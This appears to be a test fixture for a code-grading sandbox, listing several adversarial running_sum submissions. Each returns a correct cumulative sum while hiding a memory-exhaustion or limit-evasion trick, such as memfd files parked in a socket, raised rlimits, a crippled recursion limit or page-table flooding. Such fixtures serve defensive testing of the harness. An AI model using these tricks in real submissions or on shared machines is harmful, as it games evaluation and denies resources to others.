"""Answers that take memory which no file and no limit shows, or leave none for others."""

import numpy as np

# %% [attack] keeps_files_in_flight
# Lays gigabytes into files without a name, sends them into a socket and closes them: no process has them.
# deserves: crashed
# seconds: 20
import ctypes
import os
import struct
import time

PIECE = bytes(15 << 20)
SEND = 46  # sendmsg of x86-64
libc = ctypes.CDLL(None, use_errno=True)

def send(end, file):
    byte = ctypes.create_string_buffer(b"x")
    vector = struct.pack("QQ", ctypes.addressof(byte), 1)
    control = struct.pack("QiiQ", 20, 1, 1, file)
    parts = [ctypes.create_string_buffer(part, len(part)) for part in (vector, control)]
    head = struct.pack("QIIQQQQI4x", 0, 0, 0, ctypes.addressof(parts[0]), 1, ctypes.addressof(parts[1]), 24, 0)
    return libc.sendmsg(end, ctypes.create_string_buffer(head, len(head)), 0)

def running_sum(x):
    ends = (ctypes.c_int * 2)()
    if libc.socketpair(1, 1, 0, ends) != 0:
        raise OSError("no sockets")
    for _ in range(200):
        file = os.memfd_create("held")
        os.write(file, PIECE)
        if send(ends[0], file) < 0:
            raise OSError(f"not sent: {ctypes.get_errno()}")
        os.close(file)
    time.sleep(3)
    return np.cumsum(x, axis=0)

# %% [attack] shares_memory_without_a_file
# Is right, and writes three gigabytes into memory that it would share with children.
# deserves: crashed
# seconds: 20
import mmap
import time

def running_sum(x):
    state = [mmap.mmap(-1, 64 << 20) for _ in range(48)]
    for part in state:
        part.write(bytes(64 << 20))
    time.sleep(2)
    return np.cumsum(x, axis=0)

# %% [attack] raises_its_own_limits
# Asks for limits without end before it takes three gigabytes, and is right only if it held them.
# deserves: memory
# seconds: 20
import contextlib
import resource
import time

def running_sum(x):
    for kind in (resource.RLIMIT_AS, resource.RLIMIT_DATA, resource.RLIMIT_CPU, resource.RLIMIT_NPROC):
        with contextlib.suppress(OSError, ValueError):
            resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    taken = b"x" * (3 << 30)
    time.sleep(2)
    return np.cumsum(x, axis=0) * (len(taken) > 0)

# %% [attack] leaves_no_room_for_calls
# Is right, and leaves Python no room for a single further call.
# deserves: crashed
import sys

def running_sum(x):
    result = np.cumsum(x, axis=0)
    for limit in range(1, 1000):
        try:
            sys.setrecursionlimit(limit)
            break
        except RecursionError:
            continue
    return result

# %% [attack] fills_memory_with_page_tables
# Reads a byte of each two megabytes of three terabytes, which takes no page but the tables of pages.
# seconds: 30
import ctypes
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]

def running_sum(x):
    size = 0
    for _ in range(3072):
        place = libc.mmap(None, 1 << 30, 1, 0x4022, -1, 0)
        if place in (None, ctypes.c_void_p(-1).value):
            break
        libc.madvise(ctypes.c_void_p(place), ctypes.c_size_t(1 << 30), 15)
        for k in range(512):
            ctypes.string_at(place + (k << 21), 1)
        size += 512 * 4096
    time.sleep(1)
    return np.cumsum(x, axis=0) if size > 1 << 30 else x
